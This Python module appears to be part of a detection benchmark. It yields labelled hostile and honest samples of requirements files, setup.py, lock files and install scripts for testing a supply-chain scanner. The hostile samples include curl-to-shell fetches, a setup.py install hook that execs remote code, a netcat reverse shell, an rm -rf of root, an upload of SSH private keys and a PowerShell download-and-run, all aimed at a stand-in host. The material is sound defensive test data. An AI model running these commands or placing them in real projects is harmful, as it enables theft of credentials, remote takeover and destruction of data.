"""What a release asks to install, and scripts that lie beside it."""

# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

from typing import TYPE_CHECKING

from benchmarks.detection.families import code_commands
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

# In two parts each: no file of the project names a package index to use.
_INDEX = "index-" + "url"
_PYPI = "pypi.org" + "/simple"

HOSTILE: dict[str, tuple[str, str, str]] = {
    "extra-index": (
        "another index",
        "requirements.txt",
        f"torch==2.4.0\n--extra-{_INDEX} https://assay.invalid/simple\nhouse-tools\n",
    ),
    "index-short": (
        "another index",
        "requirements.txt",
        "-ihttps://assay.invalid/s\ntorch\n",
    ),
    "index-http": (
        "an index without encryption",
        "requirements.txt",
        f"--{_INDEX} http://{_PYPI}\ntorch\n",
    ),
    "trusted-host": (
        "no certificates",
        "requirements.txt",
        "--trusted-host pypi.org\ntorch\n",
    ),
    "url-unknown": (
        "an archive of a stranger",
        "requirements.txt",
        "torch @ https://assay.invalid/torch-2.4.0-py3-none-any.whl\n",
    ),
    "url-http": (
        "an archive without encryption",
        "requirements.txt",
        "http://assay.invalid/pkg.tar.gz\n",
    ),
    "git-unknown": (
        "a repository of a stranger",
        "requirements.txt",
        "git+https://assay.invalid/x.git@main#egg=x\n",
    ),
    "path-outside": ("a path outside", "requirements.txt", "-e ../../../tmp/pkg\n"),
    "continued-line": (
        "an option over two lines",
        "requirements.txt",
        "torch \\\n\n--find-links \\\n https://assay.invalid/w\n",
    ),
    "harmful-name": ("a known harmful name", "requirements.txt", "torchtriton\n"),
    "harmful-version": (
        "a known harmful version",
        "requirements.txt",
        "ultralytics==8.3.41\n",
    ),
    "conda-pip": (
        "an option inside an environment",
        "environment.yml",
        (
            "name: x\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n"
            f"    - --extra-{_INDEX} https://assay.invalid/simple\n    - torch==2.4.0\n"
        ),
    ),
    "conda-channel": (
        "a channel of a stranger",
        "environment.yml",
        "channels:\n  - https://assay.invalid/conda\ndependencies:\n  - numpy=1.26\n",
    ),
    "poetry-source": (
        "a source of a stranger",
        "pyproject.toml",
        (
            '[tool.poetry.dependencies]\ntorch = "2.4.0"\n\n[[tool.poetry.source]]\n'
            'name = "x"\nurl = "https://assay.invalid/simple"\n'
        ),
    ),
    "pyproject-url": (
        "an address in a project",
        "pyproject.toml",
        (
            '[project]\nname = "x"\ndependencies = [\n  "numpy==1.26",\n'
            '  "tools @ https://assay.invalid/t.whl",\n]\n'
        ),
    ),
    "lock-registry": (
        "a lock with another index",
        "uv.lock",
        (
            'version = 1\n[[package]]\nname = "torch"\nversion = "2.4.0"\n'
            'source = { registry = "https://assay.invalid/simple" }\n'
        ),
    ),
    "pip-conf": (
        "pip's own settings",
        "pip.conf",
        f"[global]\n{_INDEX} = https://assay.invalid/s\n",
    ),
    "setup-run": (
        "code of setup.py",
        "setup.py",
        (
            "import os\nfrom setuptools import setup\nos.system('curl http://assay.invalid | sh')\n"
            "setup(name='x')\n"
        ),
    ),
    "setup-command": (
        "a command class",
        "setup.py",
        (
            "import urllib.request\nfrom setuptools import setup\n"
            "from setuptools.command.install import install\n\nclass Now(install):\n"
            "    def run(self):\n        exec(urllib.request.urlopen('http://assay.invalid').read())\n"
            "        install.run(self)\n\nsetup(name='x', cmdclass={'install': Now})\n"
        ),
    ),
    "shell-pipe": (
        "fetches and runs",
        "install.sh",
        "#!/bin/sh\nset -e\ncurl -fsSL https://assay.invalid/i.sh \\\n  | sudo bash -s\n",
    ),
    "shell-decode": (
        "decodes and runs",
        "install.sh",
        "#!/bin/bash\necho ZWNobyBhc3NheQ== | base64 -d | bash\n",
    ),
    "shell-reverse": (
        "a shell for a stranger",
        "run.sh",
        "#!/bin/bash\nnc -e /bin/sh assay.invalid 4444\n",
    ),
    "shell-wipe": ("wipes all", "clean.sh", "#!/bin/sh\nrm -rf --no-preserve-root /\n"),
    "shell-keys": (
        "sends keys",
        "setup.sh",
        "#!/bin/sh\ncurl -F f=@$HOME/.ssh/id_rsa https://assay.invalid\n",
    ),
    "dockerfile": (
        "an image that fetches and runs",
        "Dockerfile",
        "FROM python:3.11\nRUN wget -O - https://assay.invalid/i.sh | bash\n",
    ),
    "powershell": (
        "PowerShell",
        "install.ps1",
        "IEX (New-Object Net.WebClient).DownloadString('http://assay.invalid/a')\n",
    ),
    "page": (
        "a page that decodes and runs",
        "index.html",
        "<html><script>eval(atob('YWxlcnQoMSk='))</script></html>\n",
    ),
    "node": (
        "a script for Node",
        "index.js",
        "const { execSync } = require('child_process');\nexecSync('echo assay');\n",
    ),
}
HONEST: dict[str, tuple[str, str]] = {
    "requirements": (
        "requirements.txt",
        (
            "# what it needs\ntorch>=2.0\ntransformers==4.44.2\neinops\nnumpy<2; python_version<'3.12'\n"
            "accelerate~=0.30  # for big ones\nPillow[extra]\n-r other-requirements.txt\n"
        ),
    ),
    "cuda": (
        "requirements.txt",
        f"--extra-{_INDEX} https://download.pytorch.org/whl/cu118\ntorch==2.4.0+cu118\n",
    ),
    "hashed": (
        "requirements.txt",
        "idna==3.7 \\\n    --hash=sha256:" + "ab" * 32 + "\n",
    ),
    "tagged-git": (
        "requirements.txt",
        "git+https://github.com/huggingface/transformers.git@v4.44.0\nsentencepiece\n",
    ),
    "commit": (
        "requirements.txt",
        "flash-attn @ git+https://github.com/example/flash@" + "0a" * 20 + "\n",
    ),
    "wheel": (
        "requirements.txt",
        "https://github.com/example/model/releases/download/v1/model-1.0-py3-none-any.whl\n",
    ),
    "mirror": (
        "requirements.txt",
        "-i https://pypi.tuna.tsinghua.edu.cn" + "/simple\ntorch==2.1.0\n",
    ),
    "environment": (
        "conda.yaml",
        (
            "channels:\n- conda-forge\ndependencies:\n- python=3.10.9\n- pip<=23.0\n- pip:\n"
            "  - mlflow==2.9.2\n  - cloudpickle==2.2.1\nname: mlflow-env\n"
        ),
    ),
    "pyproject": (
        "pyproject.toml",
        (
            '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'
            '[project]\nname = "x"\ndependencies = ["torch>=2", "numpy"]\n'
            '[project.urls]\nHomepage = "http://example.org"\n[tool.ruff]\nline-length = 88\n'
        ),
    ),
    "poetry": (
        "pyproject.toml",
        (
            '[tool.poetry.dependencies]\npython = "^3.10"\ntorch = "^2.1"\n'
            'peft = { version = "0.11.1", optional = true }\n'
        ),
    ),
    "uv-lock": (
        "uv.lock",
        'version = 1\n[[package]]\nname = "idna"\nversion = "3.7"\n'
        f'source = {{ registry = "https://{_PYPI}" }}\nsdist = {{ url = '
        '"https://files.pythonhosted.org/packages/idna-3.7.tar.gz", hash = "sha256:'
        + "ab" * 32
        + '" }\n',
    ),
    "setup-cfg": (
        "setup.cfg",
        (
            "[metadata]\nname = x\nurl = http://example.org\n[options]\ninstall_requires =\n"
            "    torch>=2\n    numpy\n"
        ),
    ),
    "pipfile": (
        "Pipfile",
        (
            f'[[source]]\nurl = "https://{_PYPI}"\nverify_ssl = true\nname = "pypi"\n'
            '[packages]\ntorch = "*"\nnumpy = "==1.26.4"\n'
        ),
    ),
    "page": (
        "index.html",
        "<html><head><script src='https://cdn.jsdelivr.net/npm/a.js'></script></head></html>\n",
    ),
    "bundle": (
        "model.js",
        "export const f = (x) => fetch('model.json').then(r => r.json());\n",
    ),
    "dockerfile": (
        "Dockerfile",
        (
            "FROM python:3.11-slim\nRUN apt-get update && apt-get install -y git && "
            "rm -rf /var/lib/apt/lists/*\nCOPY requirements.txt .\n"
            'RUN pip install --no-cache-dir -r requirements.txt\nCMD ["python", "app.py"]\n'
        ),
    ),
}


def samples() -> Iterator[Sample]:
    """Give requirements and scripts by technique."""
    for name, (technique, path, text) in HOSTILE.items():
        yield Sample(
            name=name,
            family="code-install",
            technique=technique,
            truth=Truth.HOSTILE,
            files={path: text.encode()},
        )
    for name, files in code_commands.FILES.items():
        yield Sample(
            name=f"more-{name}",
            family="code-install",
            technique=name.replace("-", " "),
            truth=Truth.HOSTILE,
            files={path: text.encode() for path, text in files.items()},
        )
    for name, (path, text) in HONEST.items():
        yield Sample(
            name=f"honest-{name}",
            family="code-install",
            technique="none",
            truth=Truth.HONEST,
            files={path: text.encode()},
        )
